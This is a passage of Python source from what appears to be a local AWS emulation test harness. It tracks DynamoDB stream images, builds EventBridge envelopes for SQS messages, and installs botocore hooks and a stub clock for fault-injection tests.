    def _see(self, change: dict[str, Any]) -> None:
        keys = change["Keys"]
        key = (str(keys["pk"]["S"]), str(keys.get("sk", {}).get("S", "")))
        new, old = change.get("NewImage"), change.get("OldImage")
        if self.keep_earlier:
            for image in (old, new):
                if image is not None and "version" in image:
                    images = self.earlier.setdefault(key, {})
                    images[_version(image)] = image
                    while len(images) > MAX_EARLIER_IMAGES:
                        del images[min(images)]
        if new is None:
            self.latest.pop(key, None)
        else:
            self.latest[key] = new


def eventbridge_body(item: dict[str, Any], envelope_id: str, bus_name: str = "converge-bus") -> str:
    """The SQS message body an inbox rule delivers for the event an entity item's state represents (the same
    `event_from_item` the publisher uses): the whole EventBridge event, `source` set from the event type. Raises
    if the result does not parse as a contract event."""
    from localcloud.loader import ensure_layer_on_path

    ensure_layer_on_path()
    from converge.bus import to_entry
    from converge.envelope import event_from_item, parse_eventbridge_json

    event = event_from_item(item)
    if event is None:
        raise ValueError(f"not an entity item (no event_type): {item}")
    entry = to_entry(event, bus_name)
    envelope = {
        "version": "0",
        "id": envelope_id,
        "detail-type": entry["DetailType"],
        "source": entry["Source"],
        "account": "123456789012",
        "time": event.metadata.occurred_at.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "region": "us-east-1",
        "resources": [],
        "detail": json.loads(entry["Detail"]),
    }
    body = json.dumps(envelope)
    parse_eventbridge_json(body)
    return body


def _detail_type(body: str) -> str | None:
    """The detail-type of an inbox message's EventBridge event, or None if the body is not one."""
    try:
        event = json.loads(body)
    except ValueError:
        return None
    detail_type = event.get("detail-type") if isinstance(event, dict) else None
    return detail_type if isinstance(detail_type, str) else None


def _selected(entity_id: str, entity_ids: Collection[str] | None) -> bool:
    return entity_ids is None or entity_id in entity_ids


def _source_entity(key: tuple[str, str]) -> str:
    return key[0].split("#", 1)[1]


def _projection_kind(key: tuple[str, str]) -> str | None:
    """Which declared projection a notifications item belongs to (docs/items.md), or None (watches,
    back-in-stock notifications: not projections of a source)."""
    pk, sk = key
    if pk.startswith("AVAILABILITY#") and sk == "AVAILABILITY":
        return "availability"
    if pk.startswith("ORDER#") and sk == "ORDER":
        return "order_outcome"
    if pk.startswith("CUSTOMER#") and sk.startswith(("NOTIFICATION#ORDER_CONFIRMED#", "NOTIFICATION#ORDER_REJECTED#")):
        return "order_notification"
    return None


def _projection_entity(key: tuple[str, str]) -> str:
    pk, sk = key
    return sk.rsplit("#", 1)[1] if pk.startswith("CUSTOMER#") else pk.split("#", 1)[1]


def _version(image: dict[str, Any]) -> int:
    return int(image.get("version", {}).get("N", 0))


def _get(cloud: LocalCloud, table: str, key: tuple[str, str]) -> dict[str, Any] | None:
    response = cloud.clients.dynamodb.get_item(
        TableName=cloud.table_name(table), Key=_typed_key(key), ConsistentRead=True
    )
    item: dict[str, Any] | None = response.get("Item")
    return item


def _typed_key(key: tuple[str, str]) -> dict[str, Any]:
    return {"pk": {"S": key[0]}, "sk": {"S": key[1]}}


def _plain(image: dict[str, Any]) -> dict[str, Any]:
    from localcloud.loader import ensure_layer_on_path

    ensure_layer_on_path()
    from converge.dynamo import from_item

    return from_item(image)


def _typed(item: dict[str, Any]) -> dict[str, Any]:
    from localcloud.loader import ensure_layer_on_path

    ensure_layer_on_path()
    from converge.dynamo import to_item

    return to_item(item)


class _Raw:
    """The raw stream of a fabricated HTTP response (what botocore reads the body from)."""

    def __init__(self, body: bytes) -> None:
        self._body = body

    def stream(self, **kwargs: Any) -> Any:
        yield self._body

    def read(self, *args: Any) -> bytes:
        return self._body


# ------------------------------------------------------------------------------------------------ hook plumbing
_registry_lock = threading.Lock()
_injectors: list[FaultInjector] = []  # the injectors of the running LocalClouds (usually one)
_hooks_installed = False


def _dispatch(method: str, **kwargs: Any) -> Any:
    for injector in list(_injectors):
        if injector.current is not None:
            result = getattr(injector, method)(**kwargs)
            if result is not None:
                return result
    return None


def _before_call(**kwargs: Any) -> Any:
    return _dispatch("before_call", **kwargs)


def _before_send(**kwargs: Any) -> Any:
    return _dispatch("before_send", **kwargs)


def _before_put_events(**kwargs: Any) -> Any:
    return _dispatch("before_put_events", **kwargs)


def _after_put_events(**kwargs: Any) -> Any:
    return _dispatch("after_put_events", **kwargs)


def _install_hooks() -> None:
    """Register the hooks on every botocore session created from now on, ahead of moto's before-send stub."""
    global _hooks_installed
    import botocore.endpoint
    import botocore.handlers

    if _hooks_installed:
        return
    botocore.handlers.BUILTIN_HANDLERS[0:0] = [
        ("before-call", _before_call),
        ("before-send", _before_send),
        ("before-parameter-build.eventbridge.PutEvents", _before_put_events),
        ("after-call.eventbridge.PutEvents", _after_put_events),
    ]
    botocore.endpoint.time = _SdkClock(botocore.endpoint.time)  # type: ignore[attr-defined]
    _hooks_installed = True


class _SdkClock:
    """botocore.endpoint's `time`: the SDK's retry backoff is not slept while a function runs with faults."""

    def __init__(self, real: Any) -> None:
        self._real = real

    def sleep(self, seconds: float) -> None:
        for injector in list(_injectors):
            state = injector.current
            if state is not None and state.targeted:
                injector.backoff(seconds)
                return
        self._real.sleep(seconds)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._real, name)


def register(injector: FaultInjector) -> None:
    with _registry_lock:
        _install_hooks()
        if injector not in _injectors:
            _injectors.append(injector)


def unregister(injector: FaultInjector) -> None:
    with _registry_lock:
        if injector in _injectors:
            _injectors.remove(injector)
